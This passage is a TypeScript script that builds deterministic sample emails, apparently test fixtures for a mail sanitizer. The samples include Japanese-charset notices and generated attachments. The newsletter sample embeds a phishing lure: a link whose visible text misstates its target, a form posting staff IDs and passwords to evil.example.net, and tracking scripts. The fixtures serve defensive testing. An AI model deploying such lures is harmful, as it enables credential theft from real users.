/**
 * Writes the sample mails in samples/ (run: `npx tsx scripts/make-samples.ts`).
 *
 * Every byte is deterministic: fixed dates, Message-IDs, MIME boundaries, zip
 * timestamps, PDF metadata and seeded pixel data. Running the script twice must
 * produce byte-identical files (compare with `sha256sum samples/*.eml`).
 *
 * The well-formed UTF-8 mails are built with nodemailer's MailComposer; the
 * charset-specific (ISO-2022-JP, Shift_JIS, EUC-JP) and malformed mails are
 * written byte by byte.
 *
 * Pass `--verify` to parse every written file with mailparser's simpleParser and
 * print the decoded subject, sender, body head and attachments.
 *
 * All names are reserved/fictional: senders on example.jp, example.com and
 * pref.example.jp, recipients on city.example.lg.jp. 見本県 ("sample prefecture")
 * and 例示市 ("example city") are fictional municipalities.
 */
import { createHash } from 'node:crypto';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import zlib from 'node:zlib';

import Encoding from 'encoding-japanese';
import { fileTypeFromBuffer } from 'file-type';
import iconv from 'iconv-lite';
import { simpleParser } from 'mailparser';
import MailComposer from 'nodemailer/lib/mail-composer';
import type { Options as MailComposerOptions } from 'nodemailer/lib/mail-composer';
import { PDFDocument, StandardFonts, rgb } from 'pdf-lib';
import sharp from 'sharp';

const SAMPLES_DIR = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', 'samples');
const CRLF = '\r\n';

// ---------------------------------------------------------------------------
// Small generic helpers
// ---------------------------------------------------------------------------

/** Seeded PRNG (mulberry32), returns floats in [0, 1). */
function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** RFC 5322 date in Japan Standard Time from 'YYYY-MM-DD HH:MM:SS' (JST). */
function jst(local: string): string {
  const m = /^(\d{4})-(\d{2})-(\d{2}) (\d{2}):(\d{2}):(\d{2})$/.exec(local);
  if (!m) throw new Error(`bad date ${local}`);
  const [y, mo, d, h, mi, s] = m.slice(1).map(Number) as [number, number, number, number, number, number];
  const dow = new Date(Date.UTC(y, mo - 1, d)).getUTCDay();
  const days = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
  const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
  const p2 = (n: number): string => String(n).padStart(2, '0');
  return `${days[dow]}, ${d} ${months[mo - 1]} ${y} ${p2(h)}:${p2(mi)}:${p2(s)} +0900`;
}

/** Normalises any line ending to CRLF. */
function crlf(s: string): string {
  return s.replace(/\r?\n/g, CRLF);
}

/** Base64 wrapped at 76 characters, each line terminated by `eol`. */
function base64Lines(buf: Buffer, eol = CRLF): string {
  const b64 = buf.toString('base64');
  let out = '';
  for (let i = 0; i < b64.length; i += 76) out += b64.slice(i, i + 76) + eol;
  return out;
}

const CRC_TABLE: Uint32Array = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

/** CRC-32 (zlib.crc32 only exists from Node 20.15, so keep our own table). */
function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const byte of buf) c = (CRC_TABLE[(c ^ byte) & 0xff] ?? 0) ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface ZipEntry {
  name: string;
  data: Buffer;
}

interface ZipStyle {
  /** Set bit 11 for non-ASCII names (default), or write UTF-8 names without it (Info-ZIP on Linux, macOS). */
  utf8Flag: boolean;
  /** "Version made by": 20 is MS-DOS 2.0; 0x031e is Unix 3.0 (Info-ZIP); 0x0315 is Unix 2.1 (macOS). */
  madeBy: number;
}

/**
 * Minimal ZIP writer (deflate or store, no zip64, no data descriptors).
 * All entries get the same fixed DOS timestamp so the output is deterministic.
 */
function makeZip(entries: ZipEntry[], when = { y: 2026, mo: 4, d: 14, h: 10, mi: 0, s: 0 }, style: ZipStyle = { utf8Flag: true, madeBy: 20 }): Buffer {
  const dosTime = (when.h << 11) | (when.mi << 5) | Math.floor(when.s / 2);
  const dosDate = ((when.y - 1980) << 9) | (when.mo << 5) | when.d;
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = Buffer.from(entry.name, 'utf8');
    // Bit 11: file name is UTF-8 (only needed for non-ASCII names).
    const flags = /^[\x20-\x7e]*$/.test(entry.name) || !style.utf8Flag ? 0 : 0x0800;
    const deflated = zlib.deflateRawSync(entry.data, { level: 9 });
    const method = deflated.length < entry.data.length ? 8 : 0;
    const body = method === 8 ? deflated : entry.data;
    const crc = crc32(entry.data);

    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4); // version needed to extract
    local.writeUInt16LE(flags, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt16LE(dosTime, 10);
    local.writeUInt16LE(dosDate, 12);
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(entry.data.length, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28); // extra field length
    locals.push(local, name, body);

    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(style.madeBy, 4); // version made by
    central.writeUInt16LE(20, 6); // version needed to extract
    central.writeUInt16LE(flags, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt16LE(dosTime, 12);
    central.writeUInt16LE(dosDate, 14);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(entry.data.length, 24);
    central.writeUInt16LE(name.length, 28);
    // extra len, comment len, disk start, internal attrs, external attrs: all 0
    central.writeUInt32LE(offset, 42);
    centrals.push(central, name);

    offset += local.length + name.length + body.length;
  }
  const centralDir = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(centralDir.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, centralDir, eocd]);
}

// ---------------------------------------------------------------------------
// Japanese charset helpers
// ---------------------------------------------------------------------------

/** ISO-2022-JP (CP50220 flavour incl. NEC row 13 / IBM extensions) via encoding-japanese. */
function toJis(s: string): Buffer {
  return Buffer.from(Encoding.convert(Encoding.stringToCode(s), { to: 'JIS', from: 'UNICODE' }));
}

function fromJis(buf: Buffer): string {
  return Encoding.codeToString(Encoding.convert(Array.from(buf), { to: 'UNICODE', from: 'JIS' }));
}

/** Throws if `s` does not survive encode/decode; names the offending characters. */
function assertRoundTrip(label: string, s: string, enc: (s: string) => Buffer, dec: (b: Buffer) => string): void {
  const back = dec(enc(s));
  if (back === s) return;
  const bad = [...new Set([...s].filter((ch) => dec(enc(ch)) !== ch))];
  throw new Error(`${label}: characters do not round-trip: ${bad.map((c) => `${c} U+${c.codePointAt(0)?.toString(16).toUpperCase()}`).join(', ')}`);
}

/**
 * ISO-2022-JP text body: each line is converted on its own so that it ends in
 * ASCII mode (RFC 1468), joined with CRLF.
 */
function jisBody(text: string): Buffer {
  const lines = text.replace(/\r?\n/g, '\n').split('\n');
  const parts: Buffer[] = [];
  lines.forEach((line, i) => {
    parts.push(toJis(line));
    if (i < lines.length - 1) parts.push(Buffer.from(CRLF, 'latin1'));
  });
  return Buffer.concat(parts);
}

/**
 * RFC 2047 'B' encoded-words in the given charset. Each encoded word is
 * self-contained (for ISO-2022-JP: starts and ends its own escape sequences);
 * words are folded with CRLF + SP so that no line exceeds 76 characters,
 * counting `prefixLen` characters already on the first line (e.g. "Subject: ").
 */
function encodeWords(text: string, charset: string, enc: (s: string) => Buffer, prefixLen = 0): string {
  const overhead = `=?${charset}?B??=`.length;
  const budget = (lineUsed: number): number => Math.floor((76 - lineUsed - overhead) / 4) * 3;
  const words: string[] = [];
  let chunk = '';
  for (const ch of text) {
    const candidate = chunk + ch;
    const limit = budget(words.length === 0 ? prefixLen : 1);
    if (chunk && enc(candidate).length > limit) {
      words.push(chunk);
      chunk = ch;
    } else {
      chunk = candidate;
    }
  }
  if (chunk) words.push(chunk);
  return words.map((w) => `=?${charset}?B?${enc(w).toString('base64')}?=`).join(`${CRLF} `);
}

/** A complete header line with an encoded text value (and an optional trailing address). */
function encodedHeader(name: string, text: string, charset: string, enc: (s: string) => Buffer, address?: string): string {
  const value = encodeWords(text, charset, enc, name.length + 2);
  if (!address) return `${name}: ${value}`;
  const lastLine = `${name}: ${value}`.split(CRLF).pop() ?? '';
  const sep = lastLine.length + address.length + 3 <= 78 ? ' ' : `${CRLF} `;
  return `${name}: ${value}${sep}<${address}>`;
}

const toCp932 = (s: string): Buffer => iconv.encode(s, 'cp932');
const fromCp932 = (b: Buffer): string => iconv.decode(b, 'cp932');
const toEucJp = (s: string): Buffer => iconv.encode(s, 'eucjp');
const fromEucJp = (b: Buffer): string => iconv.decode(b, 'eucjp');
const toUtf8 = (s: string): Buffer => Buffer.from(s, 'utf8');

/** Builds a header block (CRLF terminated, blank line appended) as a Buffer. */
function headers(lines: (string | Buffer)[]): Buffer {
  const parts: Buffer[] = [];
  for (const line of lines) {
    parts.push(typeof line === 'string' ? Buffer.from(line, 'latin1') : line, Buffer.from(CRLF, 'latin1'));
  }
  parts.push(Buffer.from(CRLF, 'latin1'));
  return Buffer.concat(parts);
}

// ---------------------------------------------------------------------------
// MailComposer wrapper
// ---------------------------------------------------------------------------

/** Builds a mail with nodemailer using a fixed, per-sample MIME boundary. */
async function compose(tag: string, opts: MailComposerOptions): Promise<Buffer> {
  const composer = new MailComposer({
    textEncoding: 'B',
    newline: 'win',
    boundaryPrefix: '----=_MugaikaSample',
    baseBoundary: tag,
    ...opts,
  });
  return composer.compile().build();
}

// ---------------------------------------------------------------------------
// Binary payload generators
// ---------------------------------------------------------------------------

/** A 1600x1200 "site photo": sky gradient, buildings, asphalt, seeded sensor noise. */
async function makeSitePhoto(): Promise<Buffer> {
  const width = 1600;
  const height = 1200;
  const rnd = mulberry32(20260415);
  const px = Buffer.alloc(width * height * 3);
  // A few deterministic building blocks on the horizon.
  const buildings = Array.from({ length: 9 }, (_, i) => ({
    x0: 40 + i * 175 + Math.floor(rnd() * 40),
    w: 90 + Math.floor(rnd() * 70),
    top: 260 + Math.floor(rnd() * 260),
    shade: 120 + Math.floor(rnd() * 90),
  }));
  const horizon = 640;
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      let r: number;
      let g: number;
      let b: number;
      if (y < horizon) {
        const t = y / horizon;
        r = 110 + 90 * t;
        g = 160 + 60 * t;
        b = 235 - 15 * t;
        for (const bl of buildings) {
          if (x >= bl.x0 && x < bl.x0 + bl.w && y >= bl.top) {
            const window = (x - bl.x0) % 24 < 12 && (y - bl.top) % 30 < 16;
            r = g = b = window ? bl.shade - 60 : bl.shade;
            b += 10;
          }
        }
      } else {
        const t = (y - horizon) / (height - horizon);
        r = g = b = 95 + 40 * t;
        // A dashed white centre line, wider towards the camera.
        const half = 4 + 40 * t;
        if (Math.abs(x - width / 2) < half && Math.floor((y - horizon) / (20 + 60 * t)) % 2 === 0) r = g = b = 225;
        // A patched pothole (the subject of the repair work).
        const dx = (x - 1100) / 180;
        const dy = (y - 950) / 70;
        if (dx * dx + dy * dy < 1) {
          r = 55;
          g = 52;
          b = 50;
        }
      }
      const n = (rnd() - 0.5) * 28;
      const i = (y * width + x) * 3;
      px[i] = Math.max(0, Math.min(255, Math.round(r + n)));
      px[i + 1] = Math.max(0, Math.min(255, Math.round(g + n)));
      px[i + 2] = Math.max(0, Math.min(255, Math.round(b + n)));
    }
  }
  return sharp(px, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 85 })
    .withExif({
      IFD0: { Make: 'Example', Model: 'Cam', Software: 'Example Camera FW 1.02', DateTime: '2026:04:15 10:23:45' },
      IFD2: { DateTimeOriginal: '2026:04:15 10:23:45' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '35/1 40/1 0/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '139/1 45/1 0/1',
      },
    })
    .toBuffer();
}

/** Reads GPS latitude/longitude out of a raw EXIF block (as returned by sharp metadata). */
function readExifGps(exif: Buffer): { lat: string; lon: string } | null {
  const base = exif.toString('latin1', 0, 6) === 'Exif\0\0' ? 6 : 0;
  const le = exif.toString('latin1', base, base + 2) === 'II';
  const u16 = (o: number): number => (le ? exif.readUInt16LE(base + o) : exif.readUInt16BE(base + o));
  const u32 = (o: number): number => (le ? exif.readUInt32LE(base + o) : exif.readUInt32BE(base + o));
  const findTag = (ifd: number, tag: number): number => {
    const n = u16(ifd);
    for (let i = 0; i < n; i++) if (u16(ifd + 2 + i * 12) === tag) return ifd + 2 + i * 12;
    return -1;
  };
  const gpsPtr = findTag(u32(4), 0x8825);
  if (gpsPtr < 0) return null;
  const gps = u32(gpsPtr + 8);
  const ref = (tag: number): string => {
    const e = findTag(gps, tag);
    return e < 0 ? '?' : String.fromCharCode(exif.readUInt8(base + e + 8));
  };
  const dms = (tag: number): string => {
    const e = findTag(gps, tag);
    if (e < 0) return '?';
    const off = u32(e + 8);
    return [0, 1, 2].map((k) => u32(off + k * 8) / u32(off + k * 8 + 4)).join(' ');
  };
  return { lat: `${ref(1)} ${dms(2)}`, lon: `${ref(3)} ${dms(4)}` };
}

/**
 * A fake but file-type-detectable Windows executable: DOS header ("MZ"),
 * the classic DOS stub, and a PE signature with an (empty) COFF header.
 * It has no sections and cannot run.
 */
function makeFakeExe(): Buffer {
  const buf = Buffer.alloc(1024);
  buf.write('MZ', 0, 'latin1');
  buf.writeUInt16LE(0x0090, 0x02); // bytes on last page
  buf.writeUInt16LE(0x0003, 0x04); // pages in file
  buf.writeUInt16LE(0x0004, 0x08); // header size in paragraphs
  buf.writeUInt16LE(0xffff, 0x0c); // max extra paragraphs
  buf.writeUInt16LE(0x00b8, 0x10); // initial SP
  buf.writeUInt16LE(0x0040, 0x18); // relocation table offset
  buf.writeUInt32LE(0x80, 0x3c); // e_lfanew -> PE header
  // DOS stub: print the message below and exit.
  Buffer.from('0e1fba0e00b409cd21b8014ccd21', 'hex').copy(buf, 0x40);
  buf.write('This program cannot be run in DOS mode.\r\r\n$', 0x4e, 'latin1');
  buf.write('PE\0\0', 0x80, 'latin1');
  buf.writeUInt16LE(0x8664, 0x84); // machine: x86-64
  buf.writeUInt16LE(0, 0x86); // number of sections
  buf.writeUInt32LE(0x69de2a00, 0x88); // timestamp (fixed)
  buf.writeUInt16LE(0, 0x94); // size of optional header
  buf.writeUInt16LE(0x0022, 0x96); // characteristics: executable, large address aware
  return buf;
}

async function makeInvoicePdf(): Promise<Buffer> {
  const pdf = await PDFDocument.create();
  const fixed = new Date('2026-04-15T01:00:00Z');
  pdf.setTitle('Invoice INV-2026-0415');
  pdf.setAuthor('Mihon System Co., Ltd. Accounting');
  pdf.setSubject('System maintenance fee, April 2026');
  pdf.setCreator('Example Billing 3.1');
  pdf.setProducer('pdf-lib');
  pdf.setCreationDate(fixed);
  pdf.setModificationDate(fixed);
  const page = pdf.addPage([595.28, 841.89]); // A4
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  const bold = await pdf.embedFont(StandardFonts.HelveticaBold);
  page.drawText('Invoice', { x: 50, y: 770, size: 28, font: bold, color: rgb(0.1, 0.1, 0.3) });
  const lines = [
    'Invoice No.: INV-2026-0415',
    'Issue date: 2026-04-15',
    'Bill to: Reiji City, General Affairs Division',
    'From: Mihon System Co., Ltd.',
    '',
    'Item: Municipal web system maintenance (April 2026)',
    'Amount: JPY 1,200,000',
    'Consumption tax (10%): JPY 120,000',
    'Total: JPY 1,320,000',
    '',
    'Payment due: 2026-05-31',
    'Bank: Example Bank, Head Office, Ordinary 1234567',
  ];
  lines.forEach((line, i) => page.drawText(line, { x: 50, y: 720 - i * 20, size: 12, font }));
  page.drawRectangle({ x: 45, y: 505, width: 505, height: 1, color: rgb(0.5, 0.5, 0.5) });
  return Buffer.from(await pdf.save({ useObjectStreams: false }));
}

function xmlEscape(s: string): string {
  return s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
}

/** A minimal WordprocessingML document (valid .docx) with Japanese text and core properties. */
function makeReportDocx(): Buffer {
  const paragraphs: { text: string; bold?: boolean; size?: number }[] = [
    { text: '令和7年度 例示市地域防災計画改定支援業務', bold: true, size: 32 },
    { text: '業務報告書（案）', bold: true, size: 28 },
    { text: '' },
    { text: '令和8年4月16日' },
    { text: '見本コンサルタント株式会社 防災計画部' },
    { text: '' },
    { text: '1. 業務の概要', bold: true },
    { text: '本業務は、令和7年度に例示市地域防災計画の改定に必要な基礎調査及び素案作成を行ったものである。' },
    { text: '2. 主な改定事項', bold: true },
    { text: '（1）避難所運営マニュアルの見直し（女性・要配慮者の視点の反映）' },
    { text: '（2）防災訓練の実施体制（総合防災訓練を年1回、地区別訓練を年2回）' },
    { text: '（3）災害時の情報伝達手段の多重化（防災行政無線、メール配信、SNS）' },
    { text: '3. 今後のスケジュール', bold: true },
    { text: '令和8年5月に防災会議へ素案を提示し、パブリックコメントを経て8月に決定予定。' },
  ];
  const body = paragraphs
    .map(({ text, bold, size }) => {
      const rPr = bold || size ? `<w:rPr>${bold ? '<w:b/>' : ''}${size ? `<w:sz w:val="${size}"/><w:szCs w:val="${size}"/>` : ''}</w:rPr>` : '';
      return text ? `<w:p><w:r>${rPr}<w:t xml:space="preserve">${xmlEscape(text)}</w:t></w:r></w:p>` : '<w:p/>';
    })
    .join('');
  const documentXml =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">' +
    `<w:body>${body}<w:sectPr><w:pgSz w:w="11906" w:h="16838"/>` +
    '<w:pgMar w:top="1985" w:right="1701" w:bottom="1701" w:left="1701" w:header="851" w:footer="992" w:gutter="0"/>' +
    '</w:sectPr></w:body></w:document>';
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>' +
    '<Override PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>' +
    '</Types>';
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>' +
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" Target="docProps/core.xml"/>' +
    '</Relationships>';
  // Author metadata is realistic leakage a sanitizer may want to strip.
  const core =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' +
    '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ' +
    'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" ' +
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">' +
    '<dc:title>業務報告書（案）</dc:title><dc:creator>見本 花子</dc:creator><cp:lastModifiedBy>見本 一郎</cp:lastModifiedBy>' +
    '<cp:revision>7</cp:revision>' +
    '<dcterms:created xsi:type="dcterms:W3CDTF">2026-03-27T00:30:00Z</dcterms:created>' +
    '<dcterms:modified xsi:type="dcterms:W3CDTF">2026-04-16T02:15:00Z</dcterms:modified>' +
    '</cp:coreProperties>';
  return makeZip([
    { name: '[Content_Types].xml', data: Buffer.from(contentTypes, 'utf8') },
    { name: '_rels/.rels', data: Buffer.from(rels, 'utf8') },
    { name: 'docProps/core.xml', data: Buffer.from(core, 'utf8') },
    { name: 'word/document.xml', data: Buffer.from(documentXml, 'utf8') },
  ]);
}

/** A small 48x48 PNG "location map" icon (seeded, deterministic). */
async function makeSmallPng(): Promise<Buffer> {
  const size = 48;
  const px = Buffer.alloc(size * size * 3);
  for (let y = 0; y < size; y++) {
    for (let x = 0; x < size; x++) {
      const i = (y * size + x) * 3;
      const road = Math.abs(x - y) < 3 || Math.abs(x - 30) < 2;
      const pin = (x - 24) ** 2 + (y - 18) ** 2 < 36;
      px[i] = pin ? 220 : road ? 250 : 200;
      px[i + 1] = pin ? 40 : road ? 250 : 225;
      px[i + 2] = pin ? 40 : road ? 240 : 190;
    }
  }
  return sharp(px, { raw: { width: size, height: size, channels: 3 } })
    .png()
    .toBuffer();
}

/** Minimal CSV writer: quotes a cell when it contains a comma, quote or newline. */
function csvLine(cells: string[]): string {
  return cells.map((c) => (/[",\r\n]/.test(c) ? `"${c.replace(/"/g, '""')}"` : c)).join(',');
}

/** Folds an iCalendar content line at 75 octets without splitting UTF-8 sequences. */
function icsFold(line: string): string {
  const out: string[] = [];
  let cur = '';
  let curBytes = 0;
  for (const ch of line) {
    const n = Buffer.byteLength(ch, 'utf8');
    const limit = out.length === 0 ? 75 : 74; // continuation lines start with a space
    if (curBytes + n > limit) {
      out.push(cur);
      cur = '';
      curBytes = 0;
    }
    cur += ch;
    curBytes += n;
  }
  out.push(cur);
  return out.join('\r\n ');
}

// ---------------------------------------------------------------------------
// The samples
// ---------------------------------------------------------------------------

type Sample = { file: string; build: () => Promise<Buffer> };

// The reply chain of 15-17: the ids mugaika gave what it delivered (fixed here; a gateway makes new
// ones) and the clerk's answers, sent from the LGWAN side.
const CHAIN = {
  delivered1: '<5d1c2b3a-4e5f-4a6b-8c7d-9e0f1a2b3c4d@mugaika.invalid>',
  answer1: '<TY3P286MB0001.tanaka.doboku@mail.city.example.lg.jp>',
  delivered2: '<7f8e9d0c-1b2a-4c3d-9e4f-5a6b7c8d9e0f@mugaika.invalid>',
  answer2: '<TY3P286MB0002.tanaka.doboku@mail.city.example.lg.jp>',
};

const quoted = (s: string): string =>
  s
    .split('\n')
    .map((l) => `> ${l}`)
    .join('\n');

const GMAIL_TABLE_TEXT = `土木課 御中

道路に穴があいているのを見つけましたので連絡します。

場所 見本町3丁目の交差点（郵便局の前）
大きさ 直径30cmくらい、深さ5cmくらい
気づいた日 12月5日（土）の朝

よろしくお願いいたします。

--
山田 花子
`;

const GMAIL_CELL = 'border:1px solid rgb(204,204,204);overflow:hidden;padding:2px 3px;vertical-align:bottom';
const GMAIL_TABLE_HTML = `<div dir="ltr">土木課 御中<div><br></div><div>道路に穴があいているのを見つけましたので連絡します。</div><div><br></div><table cellspacing="0" cellpadding="0" dir="ltr" border="1" style="table-layout:fixed;font-size:10pt;font-family:Arial;width:0px;border-collapse:collapse;border:none" data-sheets-root="1"><colgroup><col width="100"><col width="245"></colgroup><tbody>${[
  ['場所', '見本町3丁目の交差点（郵便局の前）'],
  ['大きさ', '直径30cmくらい、深さ5cmくらい'],
  ['気づいた日', '12月5日（土）の朝'],
]
  .map(([k, v]) => `<tr style="height:21px"><td style="${GMAIL_CELL}">${k}</td><td style="${GMAIL_CELL}">${v}</td></tr>`)
  .join(
    '',
  )}</tbody></table><div><br></div><div>よろしくお願いいたします。</div><div><br></div><span class="gmail_signature_prefix">-- </span><br><div dir="ltr" class="gmail_signature">山田 花子</div></div>
`;

const PREF_KIKAKU = '見本県 企画部 企画調整課';

const samples: Sample[] = [
  {
    // ISO-2022-JP notice with NEC special characters (①②③, ㈱) in body and headers.
    file: '01-iso2022jp-notice.eml',
    build: async () => {
      const subject = '【見本県】令和8年度 地域づくり推進補助金 説明会のお知らせ（①会場 ②オンライン）';
      const body = [
        '各市町村 補助金担当課 御中',
        '（例示市 総務部 総務課 ご担当者様）',
        '',
        'いつも県政の推進にご協力いただき、ありがとうございます。',
        '見本県企画部企画調整課です。',
        '',
        '令和8年度「地域づくり推進補助金」について、下記のとおり',
        '市町村向け説明会を開催しますので、お知らせします。',
        '',
        '　　　　　　　　　　　記',
        '',
        '１　日　時　令和8年5月20日（水）14時00分～16時00分',
        '２　開催方法',
        '　　①　集合：見本県庁 本館5階 大会議室',
        '　　②　オンライン：Web会議システム（URLは申込者に別途通知）',
        '　　③　録画配信：5月27日（水）から2週間（申込者のみ）',
        '３　内　容　制度概要、申請手続き、令和7年度からの変更点、質疑応答',
        '４　申込方法　5月13日（水）までに、下記ページの申込フォームから',
        '　　お申し込みください。',
        '　　https://www.pref.example.jp/kikaku/setsumeikai.html',
        '５　運営委託先　㈱見本総合研究所（説明会の受付業務のみ）',
        '',
        '※補助率は対象経費の２分の１以内、上限額は１件あたり500万円です。',
        '※申請様式は説明会当日に配布し、後日上記ページにも掲載します。',
        '',
        '以上',
        '',
        '－－－－－－－－－－－－－－－－－－－－－－－－－－－－－',
        '見本県 企画部 企画調整課 地域振興担当',
        '〒100-0000 見本県見本市本町一丁目1番1号',
        'TEL 000-000-0000（内線 2345）　FAX 000-000-0001',
        'E-mail kikaku@pref.example.jp',
        '－－－－－－－－－－－－－－－－－－－－－－－－－－－－－',
        '',
      ].join('\n');
      for (const [label, s] of [
        ['01 subject', subject],
        ['01 from', PREF_KIKAKU],
        ['01 body', body.replace(/\n/g, '')],
        ['01 NEC chars', '①②③㈱'],
      ] as const) {
        assertRoundTrip(label, s, toJis, fromJis);
      }
      const nec = toJis('①㈱').toString('hex');
      if (!nec.includes('2d21') || !nec.includes('2d6a')) throw new Error(`01: unexpected NEC row-13 encoding ${nec}`);
      const head = headers([
        'Return-Path: <kikaku@pref.example.jp>',
        encodedHeader('From', PREF_KIKAKU, 'ISO-2022-JP', toJis, 'kikaku@pref.example.jp'),
        'To: soumu@city.example.lg.jp',
        encodedHeader('Subject', subject, 'ISO-2022-JP', toJis),
        `Date: ${jst('2026-04-14 09:30:00')}`,
        'Message-ID: <20260414093000.0001.kikaku@pref.example.jp>',
        'MIME-Version: 1.0',
        'Content-Type: text/plain; charset=ISO-2022-JP',
        'Content-Transfer-Encoding: 7bit',
        'X-Mailer: Example Groupware 5.2',
      ]);
      return Buffer.concat([head, jisBody(body)]);
    },
  },
  {
    // HTML newsletter with trackers, script/style/form and a lying link; text part differs.
    file: '02-html-newsletter.eml',
    build: async () => {
      const track = (target: string): string => `https://click.example.com/t/abc?u=${encodeURIComponent(target)}`;
      const html = `<!DOCTYPE html>
<html lang="ja">
<head>
<meta charset="utf-8">
<title>見本ライフ通信 Vol.128</title>
<style>
  body { font-family: "Hiragino Sans", Meiryo, sans-serif; color: #222; }
  .preheader { display: none !important; }
  .btn { background: #c00; color: #fff; padding: 8px 16px; text-decoration: none; }
</style>
<script type="text/javascript">
  document.addEventListener('DOMContentLoaded', function () {
    fetch('https://track.example.com/js?id=123&ua=' + encodeURIComponent(navigator.userAgent));
  });
</script>
</head>
<body>
<div class="preheader">自治体職員の皆さまへ、今月の特集と重要なお知らせをお届けします。</div>
<h1>見本ライフ通信 Vol.128（2026年4月号）</h1>
<p>例示市 広報課 ご担当者様</p>
<p>いつも見本ライフ通信をご愛読いただき、ありがとうございます。<br>
今月の特集は「自治体DXの最新事例 ― 書かない窓口と電子申請」です。</p>
<p><a href="${track('https://www.example.com/dx/2026-04')}">▶ 特集記事を読む</a></p>
<p><img alt="イベント写真" src="https://cdn.example.com/a.jpg" width="600" height="300"></p>
<h2>【重要】会員アカウント再認証のお願い</h2>
<p>セキュリティ強化のため、<strong>4月30日（木）まで</strong>に職員アカウントの再認証をお願いします。<br>
期限を過ぎると、メールマガジンの配信および会員サービスが停止されます。</p>
<p>再認証ページ：<a href="https://evil.example.net/login">https://www.city.example.lg.jp/login</a></p>
<form action="https://evil.example.net/collect" method="post">
  <p><label>職員ID <input type="text" name="user"></label></p>
  <p><label>パスワード <input type="password" name="pass"></label></p>
  <p><input type="submit" value="ログイン" class="btn"></p>
</form>
<h2>春のオンラインセミナー（無料）</h2>
<p>「令和8年度 補助金活用のポイント」5月12日（火）15時～<br>
<a href="${track('https://www.example.com/seminar/2026-05')}" class="btn">お申込みはこちら</a></p>
<p><a href="javascript:void(0)" onclick="window.open('https://evil.example.net/popup')">詳細を表示</a></p>
<hr>
<p style="font-size:11px;color:#888">配信元：見本ライフ通信編集部（株式会社見本メディア）<br>
配信停止は<a href="${track('https://www.example.com/unsubscribe?id=123')}">こちら</a></p>
<img src="https://track.example.com/open.gif?id=123" width=1 height=1>
</body>
</html>
`;
      const text = `見本ライフ通信 Vol.128（2026年4月号）

例示市 広報課 ご担当者様

今月の特集：自治体DXの最新事例 ― 書かない窓口と電子申請
https://www.example.com/dx/2026-04

春のオンラインセミナー（無料）
「令和8年度 補助金活用のポイント」5月12日（火）15時～
https://www.example.com/seminar/2026-05

配信停止：https://www.example.com/unsubscribe?id=123
配信元：見本ライフ通信編集部（株式会社見本メディア）
`;
      return compose('02newsletter', {
        from: { name: '見本ライフ通信', address: 'news@mail.example.com' },
        to: 'kouhou@city.example.lg.jp',
        subject: '【見本ライフ通信】自治体DXの最新事例／春のオンラインセミナーのご案内 Vol.128',
        date: jst('2026-04-15 07:00:00'),
        messageId: '<nl-128.20260415070000.123@mail.example.com>',
        text,
        html,
        headers: {
